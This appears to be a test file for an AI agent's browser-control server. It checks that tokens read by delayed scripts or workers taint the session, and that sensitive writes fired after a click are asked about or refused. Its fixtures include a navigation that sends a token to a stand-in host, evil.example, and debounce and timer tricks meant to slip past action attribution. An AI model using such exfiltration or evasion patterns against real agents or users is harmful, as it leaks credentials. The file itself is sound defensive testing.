// Attacks on settling an action without a quiet window (TrackedPage.settle, browser/rendererAnnouncements.ts): an
// action whose renderer announced nothing by the page's next frame and task returns at once, so what a click sets
// off later than that is no longer the action's doing. A sensitive write then is refused instead of asked (safe;
// the human loses the question). A sensitive read then was, at first, never counted into the session's taint
// (reads were collected only when an action ended, so one landing after the click, or between calls, was lost, and
// what it put on the page could be carried off in another tab unasked): the backstop now taints the session as
// each sensitive read goes through. The 300 ms and no-action cases leaked before the settle change too.
// Real Chromium; assertions are on what the fixture servers received.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type McpUnderTest, refOf, startMcp } from '../helpers/mcpClient.ts';
import { showInOut } from '../helpers/tokenPages.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_settleToken7741';

/** Reads the token page and shows it. */
const readToken = `fetch('/settings/tokens').then((r) => r.text()).then(${showInOut})`;

/** A button that reads the token page and shows it, `later` wrapping the read. */
const revealButton = (name: string, later: (read: string) => string) =>
  `<button onclick="${later(readToken).replaceAll('"', '&quot;')}">${name}</button><p id="out"></p>`;

/** How the page comes to read the token page: after a click (with a debounce), or on its own. */
const ways: Record<string, { readonly page: string; readonly click: boolean }> = {
  'a click set off after a 30 ms debounce': {
    page: revealButton('Reveal', (read) => `setTimeout(() => ${read}, 30)`),
    click: true,
  },
  'a click set off after a 50 ms debounce': {
    page: revealButton('Reveal', (read) => `setTimeout(() => ${read}, 50)`),
    click: true,
  },
  // Not caught before either (the quiet window was 60 ms): reads between actions never tainted the session.
  'a click set off after a 300 ms debounce': {
    page: revealButton('Reveal', (read) => `setTimeout(() => ${read}, 300)`),
    click: true,
  },
  'the page made on its own, 400 ms after it loaded, with no action': {
    page: `<p id="out"></p><script>setTimeout(() => ${readToken}, 400)</script>`,
    click: false,
  },
  'a worker of the page made after a click': {
    page: `<button onclick="const w = new Worker('/reader.js'); w.onmessage = (e) => { document.getElementById('out').textContent = e.data }">Reveal</button><p id="out"></p>`,
    click: true,
  },
};

for (const [how, { page, click }] of Object.entries(ways)) {
  describe(`a sensitive read ${how}`, () => {
    let gh: Fixture;
    let evil: Fixture;
    let mcp: McpUnderTest;
    const leaks = () => evil.seen.filter((request) => request.path.includes(token));

    before(async () => {
      gh = await startFixture(
        {
          '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
          '/acme': (_req, _body, res) => html(res, `<title>acme</title>${page}`),
          '/reader.js': (_req, _body, res) => {
            res
              .writeHead(200, { 'content-type': 'text/javascript' })
              .end(
                "fetch('/settings/tokens').then((r) => r.text()).then((t) => postMessage(t.replace(/<[^>]*>/g, ' ')))",
              );
          },
        },
        { tls: true },
      );
      evil = await startFixture(
        { '/p': (_req, _body, res) => html(res, '<title>ok</title>ok') },
        { tls: true },
      );
      mcp = await startMcp({ args: ['--mode', 'isolated'] });
      // The human lets the agent work on github.com, and refuses anything toward evil.example.
      mcp.human.policy = (message) =>
        /evil\.example/.test(message) ? { decision: 'reject' } : { decision: 'approve' };
    });
    after(async () => {
      await mcp?.close();
      await gh?.close();
      await evil?.close();
    });

    test('taints the session: what it showed cannot then be carried to another site unasked', async () => {
      const told: string[] = [];
      const call = async (name: string, args: Record<string, unknown> = {}) => {
        const { text } = await mcp.call(name, args);
        told.push(text);
        return text;
      };
      await call('new_page', { url: gh.url('github.com', '/acme') });
      if (click) await call('click', { ref: refOf(await call('take_snapshot'), 'Reveal') });
      // The agent reads the token off the page the click filled.
      await waitFor('the token on the page', async () => (await call('take_snapshot')).includes(token));
      const status = await call('browser_status');
      // Told once, with a result, why its next data-carrying actions will ask; browser_status says how it was read.
      const notes = told.filter((text) =>
        /Note: the browser loaded or fetched the sensitive https:\/\/github\.com:\d+ \(not a page a tool result showed\)/.test(
          text,
        ),
      );
      assert.equal(notes.length, 1, told.join('\n---\n'));
      assert.match(
        status,
        /tainted by reading: https:\/\/github\.com:\d+ \(loaded or fetched by the browser/,
      );
      // Carried off in a tab of its own: no earlier action of the first tab answers for its requests.
      const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
      assert.deepEqual(
        leaks().map((request) => request.path),
        [],
        `the token reached evil.example unasked (${/tainted by reading: .*/.exec(status)?.[0]}): ${opened.text}`,
      );
    });
  });
}

describe('a sensitive write a click set off after the turn', () => {
  let gh: Fixture;
  let blog: Fixture;
  let mcp: McpUnderTest;
  const deletes = () => gh.writes().filter((request) => request.path.startsWith('/settings/delete'));
  let target = '';

  /** Pages with a button posting 30 ms after the click; the second makes the page's turn answer at once. */
  const pages: Record<string, string> = {
    'a 30 ms debounce': '',
    'a 30 ms debounce on a page with synchronous timers and frames': `<script>
      (() => {
        const realTimeout = setTimeout;
        window.setTimeout = (f, ms, ...a) => (ms ? realTimeout(f, ms, ...a) : (f(...a), 0));
        window.requestAnimationFrame = (f) => (f(performance.now()), 0);
        window.__later = (f) => realTimeout(f, 30);
      })();
    </script>`,
  };

  before(async () => {
    gh = await startFixture(
      { '/settings/delete': (_req, _body, res) => html(res, '<title>Deleted</title>Deleted') },
      { tls: true },
    );
    target = JSON.stringify(gh.url('github.com', '/settings/delete'));
    const post = `fetch(${target}, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})`;
    const later = `(window.__later || ((f) => setTimeout(f, 30)))(() => ${post})`;
    const routes = Object.fromEntries(
      Object.values(pages).map((script, at) => [
        `/p${at}`,
        (_req: unknown, _body: string, res: Parameters<typeof html>[0]) =>
          html(
            res,
            `<title>p${at}</title>${script}<button onclick="${later.replaceAll('"', '&quot;')}">Like</button>`,
          ),
      ]),
    );
    blog = await startFixture(routes);
    mcp = await startMcp({ args: ['--mode', 'isolated'] });
  });
  after(async () => {
    await mcp?.close();
    await gh?.close();
    await blog?.close();
  });

  Object.keys(pages).forEach((name, at) => {
    test(`${name}: nothing reaches the sensitive page, and the request is asked or reported`, async () => {
      await mcp.call('new_page', { url: blog.url('blog.example', `/p${at}`) });
      const asked = mcp.human.questions.length;
      const click = await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Like') });
      const refusal = /POST https:\/\/github\.com:\d+\/settings\/delete: .*nobody left to ask/;
      const asking = /Sends: POST github\.com:\d+\/settings\/delete/;
      // Held and asked while the click ran, or refused once it came and told with the next result in the tab.
      const outcome = await waitFor('the POST to be asked about or reported', async () => {
        if (asking.test(mcp.human.questions.slice(asked).join('\n'))) return 'asked';
        const next = await mcp.call('take_snapshot');
        return refusal.test(`${click.text}\n${next.text}`) ? 'refused, nobody left to ask' : undefined;
      });
      assert.equal(deletes().length, 0, click.text);
      assert.ok(outcome);
    });
  });
});
